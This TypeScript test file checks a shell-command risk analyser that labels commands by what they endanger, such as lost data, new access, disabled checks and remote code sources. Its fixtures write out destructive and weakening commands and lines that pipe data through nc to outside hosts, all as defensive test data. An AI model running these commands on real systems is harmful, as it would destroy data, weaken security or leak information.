import { describe, expect, it } from 'vitest'
import { analyse } from '../analyse.ts'
import { whatWordsTell } from './knowledge/telling-words.ts'

const LOST = 'what is lost with it'
const GETS_IN = 'who gets in from then on'
const UNCHECKED = 'what no longer watches or checks'
const FROM_THERE = 'what comes from there'
const PASSES = 'whom the traffic passes from then on'

describe('what words tell of a program that nobody described', () => {
  it.each([
    ['store backup delete nightly', LOST],
    ['store drop-table orders', LOST],
    ['store deletetable orders', LOST],
    ['store schema:remove', LOST],
    ['store remove x --force', LOST],
    ['store --purge', LOST],
    ['store deletevd:Disk.0', LOST],
    ['store systemerase', LOST],
    ['store --remove-kernel=ALL', LOST],
    ['store access add ann', GETS_IN],
    ['store settings --lockout-threshold=0', UNCHECKED],
    ['store config --nameservers 203.0.113.9', PASSES],
    ['store set eth0.nameservers=[203.0.113.9]', PASSES],
    ['store query "grant all on schema a to b"', LOST],
    ['store api-key create spare', GETS_IN],
    ['store add_user aux', GETS_IN],
    ['store members add ann --role owner', GETS_IN],
    ['store rule add --network 0.0.0.0/0', GETS_IN],
    ['store repo update --visibility public', GETS_IN],
    ['store iam ch allUsers:viewer', GETS_IN],
    ['store disableAuditLog', UNCHECKED],
    ['store disable rbac', UNCHECKED],
    ['store config set verify_ssl false', UNCHECKED],
    ['store plan set --retention 0', UNCHECKED],
    ['store start --unauthenticated', UNCHECKED],
    ['store plugin install https://cdn.example.org/p.zip', FROM_THERE],
    ['store build --mirror http://m.example.org', FROM_THERE],
    ['store config registry=http://m.example.org', FROM_THERE],
    ['store run github.com/somebody/job', FROM_THERE],
  ])('%s', (command, told) => {
    const [program, ...args] = wordsOf(command)
    expect(whatWordsTell(program!, args)).toBe(told)
  })

  it.each([
    'store list keys',
    'store deleted',
    'store --remove-comments a.js',
    'store validate --no-color x',
    'store config --nameservers 1.1.1.1',
    'store config --nameservers 10.0.0.53',
    'store ping 203.0.113.9',
    'store remove x',
    'store droplet list',
    'store add file.txt',
    'store env:set APP_KEY=1',
    'store run --port 8080 http://localhost:9000/x',
    'store get https://www.example.org/index.html',
    'store build -t public',
    'store verify a.sig',
    'store query "select name from users"',
  ])('%s: nothing', (command) => {
    const [program, ...args] = wordsOf(command)
    expect(whatWordsTell(program!, args)).toBeUndefined()
  })
})

describe('the decision', () => {
  it.each([
    'wal-g delete retain 1',
    'nodetool disablebackup',
    'chalice delete --stage prod',
    'exo compute security-group rule add default --network 0.0.0.0/0',
  ])('%s is unresolved', (command) => {
    expect(analyse(command)).toMatchObject({ certainty: 'unresolved' })
  })

  // Their entries say what the words do, or the words are somebody else's.
  it.each([
    'apt-get remove -y nano',
    'update-alternatives --remove editor /usr/bin/nano',
    'vagrant destroy -f',
    'make delete-backups',
    'node tool.js delete backup',
    'grep -r delete backup',
    'echo delete all backups',
  ])('%s is known', (command) => {
    expect(analyse(command)).toMatchObject({ certainty: 'known' })
  })
})

describe('what is sent to others', () => {
  it('is unresolved where nobody knows what it is', () => {
    expect(analyse('hledger print | nc clip.example.org 9021').certainty).toBe('unresolved')
  })

  it.each([
    'make 2>&1 | nc log.example.org 9021',
    'hledger print | nc localhost 9021',
  ])('%s is known', (command) => {
    expect(analyse(command).certainty).toBe('known')
  })
})

function wordsOf(command: string): string[] {
  return [...command.matchAll(/"([^"]*)"|\S+/g)].map(([word, quoted]) => quoted ?? word)
}
